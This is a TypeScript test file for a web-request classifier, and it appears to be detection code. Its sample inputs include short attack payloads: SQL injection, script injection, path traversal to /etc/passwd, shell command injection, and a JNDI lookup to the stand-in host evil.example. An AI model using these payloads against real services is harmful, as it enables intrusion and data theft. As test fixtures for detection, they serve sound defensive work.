import { describe, expect, it } from 'vitest';
import { PATTERN_RULES } from '#pipelines/evaluate/static-rules/pattern-rules.ts';
import { staticRulesVerdict, type StaticRulesRow } from '#pipelines/evaluate/static-rules/static-rules-verdict.ts';

const QUIET: StaticRulesRow = {
  fragments: [],
  userAgent: 'Mozilla/5.0 (X11; Linux x86_64)',
  requestsLastMinute: 3,
  loginFailuresLastMinute: 0,
  notFoundLastMinute: 0
};

describe('static rules', () => {
  it.each([
    ['sql-injection', "7' or 'a'='a"],
    ['sql-injection', '0 UNION ALL SELECT name, hash FROM members'],
    ['sql-injection', '9; drop table invoices'],
    ['sql-injection', '1 and 4=4'],
    ['sql-injection', "x' and sleep(9)-- "],
    ['cross-site-scripting', '<script>steal()</script>'],
    ['cross-site-scripting', '<img src=q onerror=go()>'],
    ['cross-site-scripting', '" onfocus=go() autofocus="'],
    ['cross-site-scripting', 'JavaScript:go()'],
    ['path-traversal', '../../secret/plan.txt'],
    ['path-traversal', '..\\..\\boot.ini'],
    ['path-traversal', '/etc/passwd'],
    ['command-injection', 'x; cat notes'],
    ['command-injection', '$(whoami)'],
    ['command-injection', 'a | /bin/sh -c x'],
    ['other-injection', '{{6*6}}'],
    ['other-injection', '${jndi:ldap://evil.example/a}'],
    ['other-injection', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>'],
    ['other-injection', '{"$ne": null}'],
    ['other-injection', 'en\r\nSet-Cookie: a=b'],
    ['broken-authentication', '{"alg":"none","typ":"JWT"}']
  ])('see %s in %j', (attackClass, fragment) => {
    expect(staticRulesVerdict({ ...QUIET, fragments: ['plain', fragment] })).toMatchObject({ attackClass });
  });

  it.each([
    "O'Brien & sons",
    'select a colour from the list',
    'rock and roll, 50% off; order today',
    'https://shop.example/a/b?c=d&e=f',
    'version 1.2.3 ... and so on',
    'text/html,application/xml;q=0.9,*/*;q=0.8',
    '<p>Hello <b>you</b></p>',
    'price > 10 and size < 5',
    'C:\\Users\\ann\\report.doc',
    '{"name":"cat","value":3}'
  ])('leave %j alone', (fragment) => {
    expect(staticRulesVerdict({ ...QUIET, fragments: [fragment] })).toEqual({ attackClass: 'benign', rule: '' });
  });

  it.each([
    [{ userAgent: 'sqlmap/1.7' }, 'scanning'],
    [{ userAgent: 'Scrapy/2.11 (+https://scrapy.org)' }, 'scraping'],
    [{ loginFailuresLastMinute: 10 }, 'credential-stuffing'],
    [{ notFoundLastMinute: 20 }, 'scanning'],
    [{ requestsLastMinute: 300 }, 'denial-of-service'],
    [{ requestsLastMinute: 299, notFoundLastMinute: 19, loginFailuresLastMinute: 9 }, 'benign'],
    [{ userAgent: 'python-requests/2.32' }, 'benign'],
    [{ fragments: ['<script>'], requestsLastMinute: 5000 }, 'cross-site-scripting']
  ] satisfies [Partial<StaticRulesRow>, string][])('answer %o with %s', (change, attackClass) => {
    expect(staticRulesVerdict({ ...QUIET, ...change })).toMatchObject({ attackClass });
  });

  it('name every rule once and keep none of the state a global flag would', () => {
    expect(PATTERN_RULES.length).toBeGreaterThan(40);
    expect(new Set(PATTERN_RULES.map(({ name }) => name)).size).toBe(PATTERN_RULES.length);
    expect(PATTERN_RULES.filter(({ pattern }) => pattern.global || pattern.sticky)).toEqual([]);
  });
});
